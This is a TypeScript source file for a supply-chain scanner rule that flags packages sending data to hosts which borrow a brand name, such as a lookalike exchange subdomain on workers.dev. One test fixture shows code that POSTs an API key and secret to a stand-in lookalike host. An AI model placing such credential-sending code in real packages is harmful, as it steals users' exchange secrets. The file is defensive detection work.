import type { Action, Finding, Inspection, Rule } from '../lib/types.ts'
import type { BrandInHost } from './brands/brand-in-host.ts'
import { brandInHost } from './brands/brand-in-host.ts'
import { brandScore } from './brands/brand-score.ts'
import type { BrandScore } from './brands/brand-score.ts'
import { whereToVerify } from './brands/where-to-verify.ts'
import type { Contact } from './hosts/contacted.ts'
import { findingAt, findingOfFlow, opening, severityOf, sourceInWords } from './finding.ts'
import { contactsOf } from './hosts/contacted.ts'
import { isLocal } from './hosts/host-class.ts'

/** A host with a brand in its name that the brand does not own. */
export const brandHost: Rule = {
  meta: {
    id: 'brand-host',
    title: 'Talks to a host that borrows a brand name',
    severity: 'high',
    description:
      'A label of the host names a brand, and the host is not among the domains of the brand: an account of that name at a hosting service, a subdomain of a stranger, or a registered name built around it. ' +
      'Of 1,488 popular packages none does this with a rented host. A note by itself; a question where the package also names that brand or handles secrets; a block where a secret is sent there.',
    references: [
      'v3.mexc.workers.dev (ccxt-mexc-futures), April 2025: https://thehackernews.com/2025/04/malicious-pypi-package-targets-mexc.html',
      'polymarketbot.polymarketdev.workers.dev, May 2026: https://safedep.io/malicious-polymarket-npm-crypto-wallet-drainer/',
    ],
    blindSpots: [
      'Hosts without a brand in their name, and hosts learned at run time.',
      'Brands of ordinary words (gate, ledger, phantom) are not looked for in hosts.',
      'Documentation hosts (github.io and the like) are left out.',
    ],
    examples: {
      flags: [
        {
          title: 'the brand as an account name at a hosting service, and a secret sent there',
          files: {
            'package.json': '{"name":"futures-helper","version":"1.0.0","main":"index.js"}',
            'index.js':
              "exports.order = (apiKey, apiSecret) => fetch('https://v3.mexc.inert-fixture.workers.dev/o', { method: 'POST', body: apiKey + apiSecret })",
          },
          context: { name: 'futures-helper', version: '1.0.0', source: 'registry' },
        },
      ],
      passes: [
        {
          title: 'the exchange itself',
          files: {
            'package.json': '{"name":"futures-helper","version":"1.0.0","main":"index.js"}',
            'index.js':
              "exports.order = (apiKey, apiSecret) => fetch('https://contract.mexc.com/o', { method: 'POST', body: apiKey + apiSecret })",
          },
          context: { name: 'futures-helper', version: '1.0.0', source: 'registry' },
        },
        {
          title: 'documentation of the exchange on a documentation host',
          files: {
            'package.json': '{"name":"futures-helper","version":"1.0.0","main":"index.js"}',
            'index.js': "exports.docs = () => fetch('https://bybit-exchange.github.io/docs/v5')",
          },
          context: { name: 'futures-helper', version: '1.0.0', source: 'registry' },
        },
      ],
    },
  },
  check(inspection, context) {
    const claim = brandScore(context.name, context.lists)
    const found: Found[] = []
    for (const contact of contactsOf(inspection)) {
      if (isLocal(contact.host)) continue
      const borrowed = brandInHost(contact.host, context.lists)
      if (borrowed !== undefined)
        found.push({ host: contact.host.name, finding: report(contact, borrowed, claim, inspection) })
    }
    return oncePerHost(found)
  },
}

type Found = { readonly host: string; readonly finding: Omit<Finding, 'rule'> }

/** Notes about one host say the same, however many of its addresses are in the code. */
function oncePerHost(found: readonly Found[]): readonly Omit<Finding, 'rule'>[] {
  const noted = new Set<string>()
  return found.flatMap(({ host, finding }) => {
    if (finding.action !== 'note') return [finding]
    if (noted.has(host)) return []
    noted.add(host)
    return [finding]
  })
}

function judge(contact: Contact, borrowed: BrandInHost, claim: BrandScore, inspection: Inspection): Action {
  // Our list of a brand's domains may be short of one; its own packages and known third parties would show that first.
  if (claim.standing !== 'unknown' && claim.brands.some(brand => brand.id === borrowed.brand.id))
    return 'note'
  const awake = contact.phase !== 'dormant'
  if (contact.secret !== undefined) return borrowed.weight >= 4 && awake ? 'block' : 'ask'
  const named = claim.score >= 3 && claim.brands.some(brand => brand.id === borrowed.brand.id)
  const secrets = inspection.facts.some(
    fact => fact.kind === 'reads' && ['env-secret', 'credential-file'].includes(fact.source),
  )
  return borrowed.weight >= 4 && awake && (named || secrets) ? 'ask' : 'note'
}

function report(
  contact: Contact,
  borrowed: BrandInHost,
  claim: BrandScore,
  inspection: Inspection,
): Omit<Finding, 'rule'> {
  const action = judge(contact, borrowed, claim, inspection)
  const { secret } = contact
  const sent = secret === undefined ? '' : ` It is sent ${sourceInWords(secret.source)}.`
  const doubt = borrowed.brand.verified
    ? ''
    : ' The domains of this brand are not verified, so it may be one of its own.'
  const judged = {
    severity: severityOf(action),
    action,
    message: `${opening(secret ?? contact)} talks to a host that is not what its name says: ${borrowed.reason}.${sent}${doubt} ${whereToVerify([borrowed.brand])}`,
  }
  return secret === undefined ? findingAt(contact.at, contact.phase, judged) : findingOfFlow(secret, judged)
}
